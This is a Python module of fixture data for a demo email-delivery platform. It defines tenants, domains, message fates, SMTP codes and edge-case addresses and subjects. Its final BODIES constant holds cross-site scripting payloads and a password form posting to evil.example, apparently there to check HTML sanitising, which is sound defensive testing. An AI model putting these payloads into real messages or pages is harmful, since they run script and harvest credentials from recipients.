"""What a made-up deployment is made of: tables, and nothing that draws from them."""

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Final

from delivery.statuses import AttemptPhase, DeliveryStatus
from domains.statuses import DomainState, Method, Transport
from mailboxes.statuses import MessageStatus, PauseReason, TenantMode

DAYS: Final = 92
"""How far back the mail goes."""

SINCE_YESTERDAY: Final = 0.12
"""The part of all mail that is of the last 48 hours."""

OUTAGE_MINUTES: Final = 40
OF_THE_OUTAGE: Final = 0.85
"""The part of the uncertain sends that one outage left behind."""


@dataclass(frozen=True, slots=True)
class DomainShape:
    """A tenant's own domain; ``issue`` is what a check or a call found wrong."""

    name: str
    transport: Transport
    method: Method
    state: DomainState = DomainState.HEALTHY
    issue: str | None = None


@dataclass(frozen=True, slots=True)
class TenantShape:
    """A tenant, and how much of all mail is its own; ``provider`` carries test mail.

    ``near_cap`` gives it a daily cap that today's mail nearly fills; ``granted`` is
    what its plan grants each month.
    """

    slug: str
    name: str
    weight: int
    users: tuple[str, ...]
    domain: DomainShape | None = None
    mode: TenantMode = TenantMode.LIVE
    timezone: str = "UTC"
    near_cap: bool = False
    granted: int | None = None
    suspended: bool = False


OUTAGE: Final = "acme.example"
"""The domain whose answers were lost."""

MARK: Final = "demo-acme"
"""The tenant by which a second run finds the first."""

TENANTS: Final = (
    TenantShape(
        MARK,
        "Acme Travel",
        45,
        ("bookings", "receipts", "concierge", "support", "alerts", "news"),
        DomainShape(OUTAGE, Transport.SES, Method.DNS_RECORDS),
        granted=60_000,
    ),
    TenantShape(
        "demo-harbour",
        "Harbour Hotels",
        20,
        ("desk", "invoices", "events"),
        DomainShape(
            "bookings.example",
            Transport.SMTP,
            Method.SMTP_RELAY,
            DomainState.FAILING,
            "dkim_missing",
        ),
        timezone="Europe/Berlin",
    ),
    TenantShape(
        "demo-clinic",
        "Northside Clinic",
        15,
        ("appointments", "results"),
        DomainShape("clinic.example", Transport.CLOUDFLARE, Method.CLOUDFLARE_ZONE),
        near_cap=True,
        granted=20_000,
    ),
    TenantShape(
        "demo-nour",
        "مكتبة النور",
        12,
        ("orders", "library"),
        DomainShape(
            "nour.example", Transport.SES, Method.SEND_ONLY, DomainState.DEGRADED
        ),
        timezone="Asia/Amman",
        near_cap=True,
    ),
    TenantShape(
        "demo-harsh",
        "Harsh Deals",
        4,
        ("offers", "winners"),
        DomainShape("deals.example", Transport.SES, Method.SEND_ONLY),
        suspended=True,
    ),
    TenantShape("demo-lab", "Acme Travel (test)", 4, ("robot",), mode=TenantMode.TEST),
)

PAUSED: Final[Mapping[str, PauseReason]] = {
    "news": PauseReason.ABUSE_THRESHOLD,
    "events": PauseReason.MANUAL,
}
"""Users that may not send, and who said so; a suspended tenant's may not either."""


@dataclass(frozen=True, slots=True)
class Fate:
    """What became of a message: its share, its status, and its recipients'.

    One that is ``recent`` was accepted within the last two hours, for nothing stays
    like this for long.
    """

    share: int
    status: MessageStatus
    delivery: DeliveryStatus
    reason: str | None = None
    recent: bool = False


M, D = MessageStatus, DeliveryStatus
FATES: Final[Mapping[str, Fate]] = {
    "delivered": Fate(7700, M.DELIVERED, D.DELIVERED),
    "submitted": Fate(600, M.SUBMITTED, D.SUBMITTED),
    "received": Fate(600, M.RECEIVED, D.DELIVERED),
    "bounced": Fate(250, M.BOUNCED, D.BOUNCED),
    "rejected": Fate(140, M.REJECTED, D.REJECTED, "provider_validation"),
    "suppressed": Fate(120, M.SUPPRESSED, D.SUPPRESSED, "hard_bounce"),
    "reconciled": Fate(80, M.DELIVERED, D.DELIVERED),
    "failed": Fate(70, M.FAILED, D.FAILED, "quota_exhausted"),
    "canceled": Fate(60, M.CANCELED, D.QUEUED),
    "deferred": Fate(60, M.DEFERRED, D.DEFERRED, recent=True),
    "queued": Fate(60, M.QUEUED, D.QUEUED, recent=True),
    "resolved": Fate(20, M.SUBMITTED, D.SUBMITTED),
    "complained": Fate(8, M.COMPLAINED, D.COMPLAINED),
    "uncertain": Fate(0, M.UNCERTAIN, D.UNCERTAIN, "transport_timeout"),
}
"""In ten thousandths; how many are uncertain is asked for."""

ACCEPTED_AT_ONCE: Final = frozenset(
    {"delivered", "submitted", "bounced", "deferred", "complained"}
)
"""Fates of mail that a transport took at the call."""

DOUBTED: Final = frozenset({"uncertain", "reconciled", "resolved"})
"""Fates of mail whose call ended, and nobody knows how."""

NEVER_CALLED: Final = frozenset({"suppressed", "canceled", "received"})

WITHOUT_FEEDBACK: Final[Mapping[str, str]] = {
    "delivered": "submitted",
    "bounced": "rejected",
    "complained": "submitted",
    "deferred": "submitted",
    "reconciled": "resolved",
}
"""What a relay, which says nothing later, makes of a fate."""

PHASES: Final = (
    (AttemptPhase.AWAITING_REPLY, 70),
    (AttemptPhase.SENDING, 18),
    (AttemptPhase.WORKER_LOST, 12),
)
"""How far the calls had got that ended in doubt, with weights."""

EVIDENCE: Final = (("none", 60), ("orphan", 22), ("partly", 18))
"""What hints at the end of an uncertain send, with weights."""

REFUSALS: Final = (
    ("550", "5.1.1", "5.1.1 no such user here"),
    ("552", "5.2.2", "5.2.2 mailbox full"),
    ("550", "5.7.1", "5.7.1 message refused by policy"),
)
DEFERRALS: Final = ("421", "4.7.0", "4.7.0 try again later")

FIRST: Final = (
    *("ada", "bea", "carl", "dina", "emil", "fay", "gus", "hana", "ivo", "jo", "kim"),
    *("lea", "max", "nia", "otto", "pia", "raj", "sol", "tom", "uma", "vera"),
)
LAST: Final = (
    *("abel", "brandt", "costa", "diaz", "engel", "fox", "gruber", "hall", "ito"),
    *("jansen", "kaya", "lund", "moss", "novak", "ortiz", "pohl", "quist", "ruiz"),
)
HOSTS: Final = ("example.com", "example.net", "example.org", "mail.example.com")

RIGHT_TO_LEFT: Final = "شركة النور للسفر والسياحة"
LONGEST_ADDRESS: Final = f"{'l' * 64}@{'.'.join(['d' * 61] * 2 + ['e' * 57])}.example"
"""254 octets, which is the most an address may have."""

SUBJECTS: Final = (
    "Your booking {n} is confirmed",
    "Receipt {n}",
    "Your appointment on Monday ({n})",
    "Invoice {n} is due",
    "Code {n}",
    "Welcome aboard",
    "تأكيد الحجز {n}",
    "Ihre Reservierung {n}",
    "ご予約の確認 {n}",
)
LONGEST_SUBJECT: Final = ("A subject that goes on and on, and then on again. " * 20)[
    :998
]
TEXT: Final = (
    "Hello {name},\n\nthis is about your booking {n}. Nothing needs to be done.\n\n"
    "Kind regards\n{sender}\n"
)

BODIES: Final = (
    "<p>Your booking is <b>confirmed</b>.</p><table><tr><td>Nights</td><td>3</td></tr>"
    "</table><p><a href='https://www.example.com/b'>Look at it</a></p>",
    "<p onclick='alert(1)'>Invoice</p><script>alert('from a mail')</script>"
    "<img src='https://tracker.example/p.gif' onerror='alert(2)'>"
    "<form action='https://evil.example'><input name='password'></form>"
    "<style>@import url(https://evil.example/x.css);</style>"
    "<iframe src='https://evil.example'></iframe><a href='javascript:alert(3)'>go</a>",
)
"""HTML as it was sent; what is stored is what the product makes of it."""

HTML_SHARE: Final = 0.02
